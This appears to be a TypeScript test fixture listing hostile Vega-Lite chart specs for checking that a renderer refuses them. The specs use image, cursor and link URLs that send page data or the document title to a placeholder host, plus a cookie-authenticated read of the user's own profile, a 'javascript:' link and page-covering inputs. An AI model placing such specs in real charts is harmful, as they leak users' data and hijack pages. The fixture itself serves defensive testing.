/** The fields of the rows that the charts below are drawn from. */
export const CITY = 'network.origin_city';
export const FLIGHTS_FIELD = 'network.count';

/**
 * What a chart of a hostile author asks of a page. `isTold`: its document holds an address or a binding, so it is not
 * drawn.
 */
export interface HostileChart {
  spec: object;
  isTold: boolean;
}

const x = { field: CITY, type: 'nominal' };
const y = { field: FLIGHTS_FIELD, type: 'quantitative' };
const bar = { mark: 'bar', encoding: { x, y } };

/**
 * Charts that read what is not theirs, or send away what they have, each by another way.
 *
 * @param origin of a host that nothing may reach
 */
export function hostileCharts(origin: string): Record<string, HostileChart> {
  const away = (name: string) => `${origin}/${name}`;
  const image = (name: string) => ({ type: 'image', width: 40, height: 40, url: away(name) });
  /** An expression that reads the page's own data and calls it a part of an address. */
  const leak = (name: string, value: string) => ({ expr: `'${away(name)}?' + encodeURIComponent(${value})` });
  const told = (spec: object): HostileChart => ({ spec, isTold: true });
  const quiet = (spec: object): HostileChart => ({ spec, isTold: false });
  const own = { url: '/api/v1/users/me', format: { type: 'json' } };
  return {
    'own data by cookie': told({ layer: [{ data: own, mark: 'point' }, bar] }),
    'foreign data': told({ vconcat: [{ data: { url: away('data.json') }, mark: 'point' }, bar] }),
    'data of a lookup': told({
      ...bar,
      transform: [{ lookup: CITY, from: { data: { url: away('lookup.json') }, key: 'a', fields: ['b'] } }],
    }),
    'data of a facet': told({
      facet: { field: CITY, type: 'nominal' },
      spec: { data: { url: away('facet.json') }, mark: 'point' },
    }),
    'data of a repeat': told({
      repeat: [CITY],
      spec: { hconcat: [{ data: { url: away('repeat.json') }, mark: 'point' }] },
    }),
    'a map of topology': told({
      layer: [
        { data: { url: away('topo.json'), format: { type: 'topojson', feature: 'a' } }, mark: 'geoshape' },
        bar,
      ],
    }),
    'a picture': told({ ...bar, mark: image('picture.gif') }),
    'a picture by row': told({
      mark: { type: 'image', width: 40, height: 40 },
      transform: [{ calculate: `'${away('row.gif')}?' + datum['${CITY}']`, as: 'picture' }],
      encoding: { x, y, url: { field: 'picture', type: 'nominal' } },
    }),
    'a picture by expression': told({
      ...bar,
      mark: { ...image(''), url: leak('expression.gif', `datum['${CITY}']`) },
    }),
    'the page read into a picture': told({
      ...bar,
      mark: {
        ...image(''),
        url: leak('page.gif', 'item.mark.group.context.dataflow._el.ownerDocument.title'),
      },
    }),
    'a picture of the configuration': told({ ...bar, mark: 'image', config: { image: image('config.gif') } }),
    'a picture of a style': told({
      ...bar,
      mark: { type: 'image', style: 'mine' },
      config: { style: { mine: image('style.gif') } },
    }),
    'a link': told({ ...bar, mark: { type: 'bar', href: leak('link', `datum['${CITY}']`) } }),
    'a script as a link': told({
      ...bar,
      encoding: { x, y, href: { value: 'javascript:void(document.title="taken")' } },
    }),
    'a link of an axis': told({
      ...bar,
      encoding: {
        x: { ...x, axis: { encoding: { labels: { update: { href: { value: away('axis') } } } } } },
        y,
      },
    }),
    'a cursor': told({ ...bar, mark: { type: 'bar', cursor: `url(${away('cursor.gif')}), auto` } }),
    'a cursor by parameter': told({
      ...bar,
      params: [{ name: 'cursor', value: `url(${away('parameter.gif')}), auto` }],
    }),
    'a picture for an input': told({
      ...bar,
      params: [{ name: 'p', value: 1, bind: { input: 'image', src: away('input.gif') } }],
    }),
    'an input over the page': told({
      ...bar,
      params: [{ name: 'p', value: 1, bind: { input: 'text', style: 'position:fixed;inset:0', id: 'root' } }],
    }),
    'an input elsewhere': told({
      ...bar,
      params: [{ name: 'p', value: 1, bind: { input: 'range', element: 'body' } }],
    }),
    'the colour of a tooltip': quiet({
      mark: { type: 'line', point: true },
      encoding: {
        x: { field: 'network.departure.month', type: 'temporal' },
        y,
        color: { field: CITY, scale: { range: [`url(${away('color.gif')})`] } },
      },
    }),
    'an event’s window': quiet({
      ...bar,
      params: [
        {
          name: 'p',
          select: { type: 'point', on: 'pointermove[merge({}, event.view.document.defaultView)]' },
        },
      ],
      encoding: { x, y, opacity: { condition: { param: 'p', value: 1 }, value: 0.5 } },
    }),
  };
}
